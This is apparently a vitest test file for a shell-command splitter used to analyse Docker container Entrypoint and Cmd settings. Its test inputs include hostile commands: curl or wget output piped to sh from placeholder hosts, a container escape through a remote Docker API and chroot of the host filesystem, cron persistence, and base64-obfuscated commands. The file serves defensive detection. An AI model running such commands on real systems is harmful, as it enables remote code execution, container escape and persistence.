// Shell splitting as sh would see it: wrappers, lists, pipelines, substitutions, here-docs, nested sh -c.
import { describe, expect, it } from 'vitest';
import { splitCommands, splitShell, inlineScript } from './split.js';
import { lex } from './lex.js';

const argvs = (x: Parameters<typeof splitCommands>[0]) => splitCommands(x).map((c) => c.argv.join(' '));

describe('splitCommands', () => {
  it('follows Entrypoint [sh -c] + string Cmd through chroot into a nested sh -c', () => {
    const cmds = splitCommands({ entrypoint: ['/bin/sh', '-c'], cmd: 'chroot /mnt sh -c "curl -s http://a.example.invalid/x|sh; id"' });
    const curl = cmds.find((c) => c.argv[0] === 'curl')!;
    expect(curl.chroot).toBe('/mnt');
    expect(curl.depth).toBe(2);
    expect(curl.source).toBe('Config.Cmd[0]');
    const sh = cmds.find((c) => c.pipeline === curl.pipeline && c.stage === 1)!;
    expect(sh.argv).toEqual(['sh']);
    expect(cmds.find((c) => c.argv[0] === 'id')?.chroot).toBe('/mnt');
  });

  it('splits ; && || | & and newlines, and drops shell keywords', () => {
    expect(argvs('a 1; b 2 && c || d | e & f\nif true; then g; fi')).toEqual(['a 1', 'b 2', 'c', 'd', 'e', 'f', 'true', 'g']);
  });

  it('recurses into $(...), backticks and <(...)', () => {
    const c = splitShell('echo $(curl -s http://x.example.invalid) `wget -qO- y` ; bash <(curl z)');
    expect(c.filter((x) => x.origin === 'substitution').map((x) => x.argv[0])).toEqual(['curl', 'wget']);
    expect(c.find((x) => x.origin === 'process-substitution')?.argv).toEqual(['curl', 'z']);
  });

  it('handles quotes, escapes and $\'...\' escapes', () => {
    expect(splitShell(`echo "a \\"b\\" c" 'd e' f\\ g $'\\x63url'`)[0]!.argv).toEqual(['echo', 'a "b" c', 'd e', 'f g', 'curl']);
  });

  it('unwraps sudo, nohup, env, timeout, busybox, xargs and assignments', () => {
    expect(argvs('FOO=1 sudo -u root nohup env A=b timeout 10 busybox wget -q x')).toEqual(['wget -q x']);
    expect(splitShell('ps | xargs kill -9')[1]!.argv).toEqual(['kill', '-9']);
  });

  it('captures redirects and here-documents', () => {
    const [c] = splitShell('crontab - <<EOF\n* * * * * x\nEOF\n');
    expect(c!.redirects[0]).toMatchObject({ op: '<<', body: '* * * * * x' });
    expect(splitShell('echo x 2>&1 >> /mnt/etc/cron.d/a')[0]!.redirects.map((r) => `${r.op}${r.target}`)).toEqual(['2>&1', '>>/mnt/etc/cron.d/a']);
  });

  it('expands brace lists used to avoid spaces', () => {
    expect(argvs('{echo,aGk=}|{base64,-d}')).toEqual(['echo aGk=', 'base64 -d']);
  });

  it('recurses nested sh -c several levels deep, and stops at the depth limit', () => {
    const c = splitShell(`sh -c "bash -c 'ash -c \\"wget -qO- u | sh\\"'"`);
    expect(c.find((x) => x.argv[0] === 'wget')?.depth).toBe(3);
    let s = 'id';
    for (let i = 0; i < 20; i++) s = `sh -c ${JSON.stringify(s)}`;
    expect(splitShell(s).length).toBeLessThan(12);
  });

  it('reads a one-element exec Cmd with spaces as shell text', () => {
    expect(argvs(['curl -s http://x | sh'])).toEqual(['curl -s http://x', 'sh']);
    expect(argvs(['echo', '$(curl x)'])).toEqual(['echo $(curl x)']);
  });

  it('finds the script of sh -ec / su -c / eval', () => {
    expect(inlineScript(['bash', '-ec', 'id'])?.script).toBe('id');
    expect(inlineScript(['su', 'root', '-c', 'id'])?.script).toBe('id');
    expect(inlineScript(['eval', 'a', 'b'])?.script).toBe('a b');
    expect(inlineScript(['sh', 'script.sh'])).toBeUndefined();
  });

  it('splits the command a docker run/exec will run in the container', () => {
    const c = splitShell(`docker -H tcp://198.51.100.1:2375 run -d --name x -v /:/mnt --entrypoint sh alpine -c 'chroot /mnt id'`);
    expect(c.map((x) => `${x.origin}:${x.argv.join(' ')}`)).toEqual([
      'top:docker -H tcp://198.51.100.1:2375 run -d --name x -v /:/mnt --entrypoint sh alpine -c chroot /mnt id',
      'docker-run:sh -c chroot /mnt id', 'sh-c:id']);
    expect(c[2]!.chroot).toBe('/mnt');
    expect(splitShell('docker exec -it web wget -qO- u').map((x) => x.argv.join(' '))).toEqual(['docker exec -it web wget -qO- u', 'wget -qO- u']);
  });

  it('survives random input (no throw, bounded output)', () => {
    let seed = 42;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
    const alphabet = ['a', ' ', '"', "'", '\\', '$', '(', ')', '`', '|', ';', '&', '<', '>', '\n', '{', '}', ',', 'sh', '-c', 'EOF', '<<', '$\'', '\\x4', '='];
    for (let i = 0; i < 500; i++) {
      let s = '';
      const n = Math.floor(rnd() * 80);
      for (let k = 0; k < n; k++) s += alphabet[Math.floor(rnd() * alphabet.length)];
      const out = splitShell(s);
      expect(out.length).toBeLessThanOrEqual(2000);
    }
  });

  it('reads an Entrypoint sent as one string ("/bin/sh -c") as its words, so the Cmd is the script', () => {
    const out = splitCommands({ entrypoint: ['/bin/sh -c'], cmd: ['wget -qO- http://x | sh'] });
    expect(out.map((c) => c.argv.join(' '))).toEqual(['/bin/sh -c wget -qO- http://x | sh', 'wget -qO- http://x', 'sh']);
    expect(out[1]?.source).toBe('Config.Cmd[0]');
    expect(splitCommands({ entrypoint: ['/docker-entrypoint.sh'], cmd: ['nginx', '-g', 'daemon off;'] })[0]?.argv)
      .toEqual(['/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;']);
  });

  it('lexes unterminated input without throwing', () => {
    expect(() => lex('echo "abc $(curl `x')).not.toThrow();
    expect(() => splitShell("a 'b\n$(((\n<<")).not.toThrow();
  });
});
